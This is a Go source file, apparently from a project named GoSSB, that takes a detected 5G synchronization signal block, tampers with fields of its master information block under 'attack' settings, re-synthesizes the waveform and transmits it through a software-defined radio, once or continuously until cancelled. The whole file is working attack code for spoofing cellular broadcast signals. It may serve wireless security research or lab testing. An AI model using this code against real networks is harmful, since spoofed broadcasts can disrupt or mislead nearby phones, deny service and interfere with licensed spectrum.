// Package spoof rebuilds a detected SSB with a tampered MIB and transmits it,
// either once or back to back until cancelled.
package spoof

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/cenkalti/backoff"

	"github.com/rjboer/GoSSB/internal/config"
	"github.com/rjboer/GoSSB/internal/dsp"
	"github.com/rjboer/GoSSB/internal/logging"
	"github.com/rjboer/GoSSB/internal/phy"
	"github.com/rjboer/GoSSB/internal/sdr"
)

const (
	// MaxConsecutiveErrors aborts continuous transmission.
	MaxConsecutiveErrors = 10
	// ErrorBackoff is the pause after a failed burst.
	ErrorBackoff = 100 * time.Millisecond
	// ProgressInterval spaces the continuous-mode progress logs.
	ProgressInterval = 5 * time.Second
)

var (
	ErrEncode          = errors.New("pbch encode failed")
	ErrEmptyWaveform   = errors.New("synthesized waveform is empty")
	ErrTransmit        = errors.New("transmit failed")
	ErrTooManyTXErrors = errors.New("too many consecutive transmit errors")
	errNothingSent     = errors.New("radio accepted no samples")
)

// Waveform is one normalized subframe ready for the radio.
type Waveform struct {
	Samples []complex64
	Changes []phy.Change
	MIB     phy.MIB
	Message phy.Message
	PCI     uint32
	// Scale is the factor applied to reach dsp.TargetAmplitude.
	Scale float64
}

// Stats summarises a transmit session. Rate is measured against wall-clock
// time, not derived from a nominal burst period.
type Stats struct {
	Bursts       int64
	Samples      int64
	Errors       int64
	Continuous   bool
	Elapsed      time.Duration
	BurstsPerSec float64
}

// Spoofer owns the generate-and-transmit stage.
type Spoofer struct {
	radio  sdr.Radio
	engine phy.Engine
	attack config.Attack
	logger logging.Logger

	// Now, Sleep and NewBackOff are replaceable for tests.
	Now        func() time.Time
	Sleep      func(ctx context.Context, d time.Duration)
	NewBackOff func() backoff.BackOff
}

// New builds a Spoofer for the given attack settings.
func New(radio sdr.Radio, engine phy.Engine, attack config.Attack, logger logging.Logger) *Spoofer {
	if logger == nil {
		logger = logging.Default()
	}
	return &Spoofer{
		radio:      radio,
		engine:     engine,
		attack:     attack,
		logger:     logger.With(logging.F("subsystem", "spoof")),
		Now:        time.Now,
		Sleep:      sleepCtx,
		NewBackOff: errorBackOff,
	}
}

// errorBackOff waits ErrorBackoff between failed bursts and gives up on the
// MaxConsecutiveErrors-th failure in a row.
func errorBackOff() backoff.BackOff {
	return backoff.WithMaxRetries(backoff.NewConstantBackOff(ErrorBackoff), MaxConsecutiveErrors-1)
}

// Build tampers the detected MIB, re-encodes it with the detected SSB index
// and HRF bit, synthesizes one subframe for the detected PCI and scales it
// to the target amplitude. det is not modified.
func (s *Spoofer) Build(det phy.Detection) (Waveform, error) {
	mib, changes := phy.Tamper(det.MIB, s.attack)
	if len(changes) == 0 {
		s.logger.Warn("no MIB fields selected for modification, retransmitting original content")
	}
	for _, c := range changes {
		s.logger.Info("MIB field modified", logging.F("field", c.Field), logging.F("from", c.From), logging.F("to", c.To))
	}

	msg, err := s.engine.Encode(mib, det.SSBIndex, det.MIB.HRF)
	if err != nil {
		return Waveform{}, fmt.Errorf("%w: %v", ErrEncode, err)
	}
	samples, err := s.engine.Synthesize(det.PCI, msg, det.SSBIndex)
	if err != nil {
		return Waveform{}, fmt.Errorf("synthesize pci %d: %w", det.PCI, err)
	}
	if len(samples) == 0 {
		return Waveform{}, ErrEmptyWaveform
	}

	before := dsp.RMS(samples)
	scale := dsp.Normalize(samples, dsp.TargetAmplitude)
	s.logger.Info("spoofed waveform ready",
		logging.F("pci", det.PCI),
		logging.F("ssb_idx", det.SSBIndex),
		logging.F("samples", len(samples)),
		logging.F("rms_before", before),
		logging.F("rms_after", dsp.RMS(samples)),
		logging.F("changes", len(changes)),
	)
	return Waveform{
		Samples: samples,
		Changes: changes,
		MIB:     mib,
		Message: msg,
		PCI:     det.PCI,
		Scale:   scale,
	}, nil
}

// Transmit sends wf once, or back to back when the attack is continuous,
// until ctx is cancelled. Cancellation returns ctx.Err() together with the
// statistics gathered so far. The TX stream is stopped on every path once
// it was started.
func (s *Spoofer) Transmit(ctx context.Context, wf Waveform) (st Stats, err error) {
	if len(wf.Samples) == 0 {
		return st, ErrEmptyWaveform
	}
	st.Continuous = s.attack.ContinuousTX
	s.logger.Info("starting transmission",
		logging.F("continuous", st.Continuous),
		logging.F("burst_samples", len(wf.Samples)),
		logging.F("tx_power_db", s.attack.TxPowerDB),
	)

	if err := s.radio.StartTX(ctx); err != nil {
		return st, fmt.Errorf("start tx stream: %w", err)
	}
	defer func() {
		if err := s.radio.StopTX(); err != nil {
			s.logger.Warn("stop tx stream", logging.F("err", err))
		}
	}()

	start := s.Now()
	defer func() {
		st.Elapsed = s.Now().Sub(start)
		if secs := st.Elapsed.Seconds(); secs > 0 {
			st.BurstsPerSec = float64(st.Bursts) / secs
		}
		s.logger.Info("transmission finished",
			logging.F("bursts", st.Bursts),
			logging.F("errors", st.Errors),
			logging.F("elapsed_s", st.Elapsed.Seconds()),
			logging.F("bursts_per_s", st.BurstsPerSec),
		)
	}()

	if st.Continuous {
		err = s.continuous(ctx, wf, &st)
	} else {
		err = s.single(wf, &st)
	}
	return st, err
}

func (s *Spoofer) single(wf Waveform, st *Stats) error {
	n, err := s.send(wf.Samples, true, true)
	if err != nil {
		st.Errors++
		return fmt.Errorf("%w: single burst: %v", ErrTransmit, err)
	}
	st.Bursts++
	st.Samples += int64(n)
	s.logger.Info("single burst sent", logging.F("samples", n))
	return nil
}

func (s *Spoofer) continuous(ctx context.Context, wf Waveform, st *Stats) error {
	b := s.NewBackOff()
	consecutive := 0
	first := true
	lastProgress := s.Now()
	for {
		if err := ctx.Err(); err != nil {
			s.logger.Info("transmission cancelled", logging.F("bursts", st.Bursts))
			return err
		}

		n, err := s.send(wf.Samples, first, false)
		if err != nil {
			st.Errors++
			consecutive++
			wait := b.NextBackOff()
			if wait == backoff.Stop {
				s.logger.Error("aborting transmission",
					logging.F("consecutive_errors", consecutive),
					logging.F("limit", MaxConsecutiveErrors),
					logging.F("err", err),
				)
				return fmt.Errorf("%w: %d in a row (limit %d): %v", ErrTooManyTXErrors, consecutive, MaxConsecutiveErrors, err)
			}
			s.logger.Warn("burst failed", logging.F("consecutive_errors", consecutive), logging.F("err", err))
			s.Sleep(ctx, wait)
			continue
		}
		if consecutive > 0 {
			b.Reset()
			consecutive = 0
		}
		first = false
		st.Bursts++
		st.Samples += int64(n)

		if now := s.Now(); now.Sub(lastProgress) >= ProgressInterval {
			lastProgress = now
			s.logger.Info("transmitting", logging.F("bursts", st.Bursts), logging.F("errors", st.Errors))
		}
	}
}

func (s *Spoofer) send(samples []complex64, startOfBurst, endOfBurst bool) (int, error) {
	n, err := s.radio.Transmit(samples, startOfBurst, endOfBurst)
	if err != nil {
		return n, err
	}
	if n <= 0 {
		return n, errNothingSent
	}
	return n, nil
}

func sleepCtx(ctx context.Context, d time.Duration) {
	if d <= 0 {
		return
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}
